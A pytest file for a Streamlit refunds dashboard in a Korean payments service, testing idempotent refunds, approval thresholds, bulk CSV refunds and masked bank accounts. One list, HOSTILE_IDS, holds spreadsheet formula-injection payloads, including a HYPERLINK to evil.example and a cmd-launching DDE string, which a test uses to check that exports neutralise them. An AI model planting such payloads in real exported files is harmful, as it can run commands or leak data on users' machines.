"""The refunds page through AppTest: the confirm dialog refunds once, approvals, bulk refunds."""

from __future__ import annotations

from collections.abc import Callable

import pandas as pd
import pytest
from sqlalchemy import select
from streamlit.testing.v1 import AppTest

from dashboard.format import plain
from services.core.models import Refund, RefundRequest
from services.payments import orders
from services.payments import verification as payments
from services.runtime import Runtime
from tests.factories import SandboxControl


def _paid(runtime: Runtime, sandbox: SandboxControl) -> tuple[str, str]:
    order = orders.create_order(runtime, customer_email="kim@example.com", customer_name="김체카")
    imp_uid = str(sandbox.checkout(order.merchant_uid, order.amount, buyer_name="김체카")["imp_uid"])
    payments.complete(runtime, imp_uid=imp_uid, merchant_uid=order.merchant_uid)
    return imp_uid, order.merchant_uid


def _refunds(runtime: Runtime) -> list[Refund]:
    with runtime.db.read() as session:
        return list(session.scalars(select(Refund)))


def _texts(at: AppTest) -> str:
    parts = [e.value for kind in (at.success, at.info, at.warning, at.error) for e in kind]
    return "\n".join(str(p) for p in parts)


def _frame(at: AppTest, column: str) -> pd.DataFrame:
    """The table showing `column` (read-only tables carry no key in AppTest)."""
    return next(frame.value for frame in at.dataframe if column in frame.value.columns)


def _open(open_app: Callable[..., AppTest], role: str) -> AppTest:
    at = open_app(role)
    at.switch_page("views/refunds.py").run()
    assert not at.exception, at.exception
    return at


def test_a_viewer_cannot_reach_the_refunds_page(open_app: Callable[..., AppTest]) -> None:
    at = open_app("viewer")
    with pytest.raises(ValueError, match="not a registered page|registered"):
        at.switch_page("views/refunds.py")


def test_empty_database_says_what_to_do(open_app: Callable[..., AppTest]) -> None:
    at = _open(open_app, "operator")
    text = _texts(at)
    assert "imp_uid나 주문번호를 입력하고" in text
    assert "승인을 기다리는 환불 요청이 없습니다" in text
    assert any("CSV 파일을 올리세요" in c.value for c in at.caption)


def test_confirm_dialog_refunds_once_even_when_confirmed_twice(
    open_app: Callable[..., AppTest], dashboard_runtime: Runtime, sandbox: SandboxControl
) -> None:
    imp_uid, merchant_uid = _paid(dashboard_runtime, sandbox)
    at = _open(open_app, "operator")
    at.text_input(key="refunds.identifier").input(merchant_uid)
    at.button(key="refunds.load").click().run()
    assert at.text_input(key="refunds.amount").value == "50000"  # pre-filled with the remainder
    at.text_input(key="refunds.amount").input("20000")
    at.text_area(key="refunds.reason").input("고객 요청: 이중 결제")
    at.button(key="refunds.start").click().run()
    assert not at.exception, at.exception
    dialog_text = "\n".join(m.value for m in at.markdown)
    assert plain(imp_uid) in dialog_text and "₩20,000" in dialog_text and "₩30,000" in dialog_text
    key = at.session_state["refunds.single.intent"].key

    at.button(key="refunds.single.confirm").click().run()
    assert not at.exception, at.exception
    assert "환불했습니다: ₩20,000" in _texts(at)
    assert [(r.amount, r.idempotency_key) for r in _refunds(dashboard_runtime)] == [(20000, key)]
    # A second click that reached the server (the dialog still showing in the browser), and a rerun.
    at.session_state["refunds.single.dialog_open"] = True
    at.run()
    at.button(key="refunds.single.confirm").click().run()
    at.run()
    assert "이미 처리된 요청" in _texts(at)
    assert len(_refunds(dashboard_runtime)) == 1
    assert len(sandbox.calls()["cancels"]) == 1
    # The page now shows the new remainder; a new intent gets a new key.
    assert at.text_input(key="refunds.amount").value == "30000"
    at.text_area(key="refunds.reason").input("고객 요청: 이중 결제")
    at.button(key="refunds.start").click().run()
    assert at.session_state["refunds.single.intent"].key != key


def test_errors_are_explained_and_nothing_is_sent(
    open_app: Callable[..., AppTest], dashboard_runtime: Runtime, sandbox: SandboxControl
) -> None:
    imp_uid, _ = _paid(dashboard_runtime, sandbox)
    at = _open(open_app, "operator")
    at.text_input(key="refunds.identifier").input(imp_uid)
    at.button(key="refunds.load").click().run()
    at.text_input(key="refunds.amount").input("100.5")
    at.text_area(key="refunds.reason").input("x")
    at.button(key="refunds.start").click().run()
    assert "소수점 없이" in _texts(at)
    for typed in ["0,05", "1e100", "1,00,000"]:  # a form error, never 5 or 100000 or a crash
        at.text_input(key="refunds.amount").input(typed)
        at.button(key="refunds.start").click().run()
        assert not at.exception, at.exception
        assert "소수점 없이" in _texts(at), typed
        assert "refunds.single.intent" not in at.session_state or at.session_state["refunds.single.intent"] is None
    at.text_input(key="refunds.amount").input("60000")
    at.button(key="refunds.start").click().run()
    assert "환불 가능 금액 ₩50,000보다 큽니다" in _texts(at)
    at.text_input(key="refunds.amount").input("10000")
    at.text_area(key="refunds.reason").input("")
    at.button(key="refunds.start").click().run()
    assert "환불 사유를 입력하세요" in _texts(at)
    # PortOne unreachable at the moment of confirming: plain words, nothing sent.
    at.text_area(key="refunds.reason").input("고객 요청")
    at.button(key="refunds.start").click().run()
    sandbox.configure(fail_next=100)
    at.button(key="refunds.single.confirm").click().run()
    sandbox.configure(fail_next=0)
    assert "포트원에 연결할 수 없어 환불을 보내지 않았습니다" in _texts(at)
    assert sandbox.calls()["cancels"] == [] and _refunds(dashboard_runtime) == []
    at.text_input(key="refunds.identifier").input("imp_nope")
    at.button(key="refunds.load").click().run()
    assert "해당 결제를 찾을 수 없습니다" in _texts(at)


def test_above_the_threshold_another_operator_approves(
    open_app: Callable[..., AppTest],
    dashboard_runtime: Runtime,
    sandbox: SandboxControl,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("REFUND_APPROVAL_THRESHOLD", '{"KRW": "30000", "USD": "20.00"}')
    imp_uid, _ = _paid(dashboard_runtime, sandbox)
    at = _open(open_app, "operator")
    at.text_input(key="refunds.identifier").input(imp_uid)
    at.button(key="refunds.load").click().run()
    at.text_area(key="refunds.reason").input("전액 환불 요청")
    at.button(key="refunds.start").click().run()
    assert any("승인 기준을 넘습니다" in w.value for w in at.warning)
    at.button(key="refunds.single.confirm").click().run()
    assert "승인 대기열에 올렸습니다" in _texts(at)
    assert sandbox.calls()["cancels"] == []
    # The requester cannot approve their own request.
    assert at.button(key="refunds.approve").disabled
    assert "본인이 요청한 건은" in "\n".join(c.value for c in at.caption)

    admin = _open(open_app, "admin")
    assert admin.selectbox(key="refunds.queue_pick").value is not None
    admin.button(key="refunds.approve").click().run()
    assert not admin.exception, admin.exception
    assert "환불했습니다: ₩50,000" in _texts(admin)
    assert len(sandbox.calls()["cancels"]) == 1
    with dashboard_runtime.db.read() as session:
        request = session.scalars(select(RefundRequest)).one()
        assert (request.requested_by, request.decided_by, request.status) == ("operator", "admin", "approved")
    assert "승인을 기다리는 환불 요청이 없습니다" in _texts(admin)


def test_bulk_refund_from_a_csv(
    open_app: Callable[..., AppTest], dashboard_runtime: Runtime, sandbox: SandboxControl
) -> None:
    first, _ = _paid(dashboard_runtime, sandbox)
    second, second_order = _paid(dashboard_runtime, sandbox)
    csv = f"imp_uid,merchant_uid,amount\n{first},,10000\n,{second_order},\n{first},,70000\nimp_missing,,\n"
    at = _open(open_app, "operator")
    at.file_uploader(key="refunds.bulk_file").set_value(("refunds.csv", csv.encode("utf-8-sig"), "text/csv"))
    at.text_input(key="refunds.bulk_reason").input("일괄 환불 테스트")
    at.run()
    at.button(key="refunds.bulk_preview_button").click().run()
    assert not at.exception, at.exception
    preview = _frame(at, "check")
    assert list(preview["check"]) == ["환불 가능", "환불 가능", "중복된 결제", "결제를 찾을 수 없음"]
    assert sandbox.calls()["cancels"] == []
    at.button(key="refunds.bulk_start").click().run()
    at.button(key="refunds.bulk.confirm").click().run()
    assert not at.exception, at.exception
    results = _frame(at, "결과")
    assert list(results["결과"]) == ["환불 완료", "환불 완료", "중복", "결제 없음"]
    assert len(sandbox.calls()["cancels"]) == 2
    download = at.get("download_button")[0]
    assert download.proto.label == "결과 CSV 내려받기"
    # Confirmed again (a double click): replayed, nothing more sent.
    at.session_state["refunds.bulk.dialog_open"] = True
    at.run()
    at.button(key="refunds.bulk.confirm").click().run()
    assert len(sandbox.calls()["cancels"]) == 2
    assert sorted(r.amount for r in _refunds(dashboard_runtime)) == [10000, 50000]
    assert second in {r.payment.imp_uid for r in _refunds_with_payment(dashboard_runtime)}


def _refunds_with_payment(runtime: Runtime) -> list[Refund]:
    with runtime.db.read() as session:
        rows = list(session.scalars(select(Refund)))
        for row in rows:
            _ = row.payment.imp_uid
        return rows


def test_a_link_with_imp_uid_loads_the_payment(
    open_app: Callable[..., AppTest], dashboard_runtime: Runtime, sandbox: SandboxControl
) -> None:
    imp_uid, _ = _paid(dashboard_runtime, sandbox)
    at = open_app("operator")
    at.query_params["imp_uid"] = imp_uid
    at.switch_page("views/refunds.py").run()
    assert not at.exception, at.exception
    assert at.text_input(key="refunds.identifier").value == imp_uid
    assert at.text_input(key="refunds.amount").value == "50000"
    assert "imp_uid" not in at.query_params  # consumed: typing another payment is not overridden
    at.text_input(key="refunds.identifier").input("imp_other")
    at.button(key="refunds.load").click().run()
    assert at.text_input(key="refunds.identifier").value == "imp_other"


def test_english(open_app: Callable[..., AppTest]) -> None:
    at = open_app("operator", lang="en")
    at.switch_page("views/refunds.py").run()
    assert at.title[0].value == "Refunds"
    assert "No refund requests are waiting" in _texts(at)


HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x","click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_bulk_results_csv_neutralises_uploaded_identifiers(
    open_app: Callable[..., AppTest], dashboard_runtime: Runtime, sandbox: SandboxControl
) -> None:
    """The results CSV echoes what was uploaded: it goes through the exports' formula-safe writer."""
    import csv as csvlib
    import io

    from dashboard import components as ui

    imp_uid, _ = _paid(dashboard_runtime, sandbox)
    upload = io.StringIO()
    writer = csvlib.writer(upload)
    writer.writerow(["imp_uid", "amount"])
    writer.writerow([imp_uid, "1,000"])
    for hostile in HOSTILE_IDS:
        writer.writerow([hostile, ""])
    at = _open(open_app, "operator")
    at.file_uploader(key="refunds.bulk_file").set_value(("r.csv", upload.getvalue().encode("utf-8-sig"), "text/csv"))
    at.text_input(key="refunds.bulk_reason").input("일괄 환불")
    at.run()
    at.button(key="refunds.bulk_preview_button").click().run()
    at.button(key="refunds.bulk_start").click().run()
    at.button(key="refunds.bulk.confirm").click().run()
    assert not at.exception, at.exception
    results = _frame(at, "결과")  # the frame the page hands to its download button
    assert list(results["결과"]) == ["환불 완료"] + ["결제 없음"] * len(HOSTILE_IDS)
    data = ui.csv_bytes(results)
    assert data.startswith("\ufeff".encode())
    rows = list(csvlib.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], rows
    identifiers = [row[1] for row in rows[1:]]
    assert identifiers == [imp_uid] + ["'" + hostile for hostile in HOSTILE_IDS]


def test_a_virtual_account_paid_on_the_test_payment_page_is_refunded_into_the_account_entered(
    open_app: Callable[..., AppTest], dashboard_runtime: Runtime, sandbox: SandboxControl
) -> None:
    """The newcomer's path (`make run`): pay by virtual account on the test payment page, deposit,
    open the payment, refund it in the detail page's dialog by entering the customer's account."""
    at = open_app("operator")
    at.switch_page("views/test_payment.py").run()
    at.radio(key="test_payment_method").set_value("vbank")
    at.button(key="test_payment_submit").click().run()
    assert not at.exception, at.exception
    assert "가상계좌가 발급되었습니다" in _texts(at)
    at.button(key="test_payment_deposit").click().run()
    assert not at.exception, at.exception
    assert _texts(at).startswith("결제가 승인되고 확인되었습니다")
    at.button(key="test_payment_detail").click().run()
    assert not at.exception, at.exception
    assert at.title[0].value == "결제 상세" and "결제 내역에서 행을 선택하거나" not in _texts(at)
    # AppTest keeps a page a script switched to for one run only; the browser stays there.
    at.switch_page("views/payment_detail.py").run()
    at.button(key="payment_detail.refund").click().run()  # the refund dialog, on the detail page
    assert not at.exception, at.exception
    dialog = "payment_detail.refund_dialog"
    assert "가상계좌" in _texts(at)  # the dialog says why it asks for an account

    at.text_input(key=f"{dialog}.amount").input("20000")
    at.button(key=f"{dialog}.confirm").click().run()
    assert "은행, 예금주, 계좌번호를 입력하세요" in _texts(at)  # nothing sent without the account
    assert sandbox.calls()["cancels"] == []

    bank = at.selectbox(key=f"{dialog}.refund_bank")
    assert any("신한은행" in option for option in bank.options)  # Korean bank names
    bank.set_value("88")
    at.text_input(key=f"{dialog}.refund_holder").input("홍길동")
    at.text_input(key=f"{dialog}.refund_number").input("110-222-333444")
    at.button(key=f"{dialog}.confirm").click().run()
    assert not at.exception, at.exception
    assert "환불했습니다: ₩20,000" in _texts(at)
    [sent] = sandbox.calls()["cancels"]
    assert sent["refund_account"] == {"holder": "홍길동", "bank": "BK88", "number": "110222333444"}
    [refund] = _refunds(dashboard_runtime)
    assert (refund.refund_bank, refund.refund_account_masked) == ("88", "********3444")


def test_the_approver_enters_the_account_of_a_virtual_account_refund(
    open_app: Callable[..., AppTest],
    dashboard_runtime: Runtime,
    sandbox: SandboxControl,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("REFUND_APPROVAL_THRESHOLD", '{"KRW": "30000", "USD": "20.00"}')
    order = orders.create_order(dashboard_runtime, customer_email="kim@example.com", customer_name="김체카")
    imp_uid = str(sandbox.checkout(order.merchant_uid, order.amount, pay_method="vbank", card_number=None)["imp_uid"])
    sandbox.http.post(f"/sandbox/payments/{imp_uid}/deposit").raise_for_status()
    payments.complete(dashboard_runtime, imp_uid=imp_uid, merchant_uid=order.merchant_uid)
    at = _open(open_app, "operator")
    at.text_input(key="refunds.identifier").input(imp_uid)
    at.button(key="refunds.load").click().run()
    at.text_area(key="refunds.reason").input("전액 환불 요청")
    at.selectbox(key="refunds.refund_bank").set_value("04")
    at.text_input(key="refunds.refund_holder").input("김체카")
    at.text_input(key="refunds.refund_number").input("123456-78-901234")
    at.button(key="refunds.start").click().run()
    at.button(key="refunds.single.confirm").click().run()
    assert "승인 대기열에 올렸습니다" in _texts(at)

    admin = _open(open_app, "admin")
    assert "고객의 환불 계좌를 입력하세요" in _texts(admin)
    admin.button(key="refunds.approve").click().run()  # without the account: nothing is sent
    assert not admin.exception, admin.exception
    assert "은행, 예금주, 계좌번호를 입력하세요" in _texts(admin)
    assert sandbox.calls()["cancels"] == []
    admin.selectbox(key="refunds.queue.refund_bank").set_value("04")
    admin.text_input(key="refunds.queue.refund_holder").input("김체카")
    admin.text_input(key="refunds.queue.refund_number").input("123456-78-901234")
    admin.button(key="refunds.approve").click().run()
    assert not admin.exception, admin.exception
    assert "환불했습니다: ₩50,000" in _texts(admin)
    [sent] = sandbox.calls()["cancels"]
    assert sent["refund_account"] == {"holder": "김체카", "bank": "BK04", "number": "12345678901234"}


def test_the_payment_detail_shows_a_refund_account_masked(
    open_app: Callable[..., AppTest], dashboard_runtime: Runtime, sandbox: SandboxControl
) -> None:
    from services.refunds import engine as refunds

    order = orders.create_order(dashboard_runtime, customer_email="kim@example.com", customer_name="김체카")
    imp_uid = str(sandbox.checkout(order.merchant_uid, order.amount, pay_method="vbank", card_number=None)["imp_uid"])
    sandbox.http.post(f"/sandbox/payments/{imp_uid}/deposit").raise_for_status()
    payments.complete(dashboard_runtime, imp_uid=imp_uid, merchant_uid=order.merchant_uid)
    account = {"bank": "90", "holder": "김체카", "number": "3333-01-2345678"}
    refunds.refund(
        dashboard_runtime, imp_uid=imp_uid, amount="1000", reason="r", actor="operator", idempotency_key="d-1",
        refund_account=account,
    )  # fmt: skip
    at = open_app("operator")
    at.session_state["payment_detail.imp_uid"] = imp_uid
    at.switch_page("views/payment_detail.py").run()
    assert not at.exception, at.exception
    table = _frame(at, "account")
    assert list(table["account"]) == ["카카오뱅크 *********5678 (김체카)"]
    assert all("2345678" not in str(frame.value.to_dict()) for frame in at.dataframe)
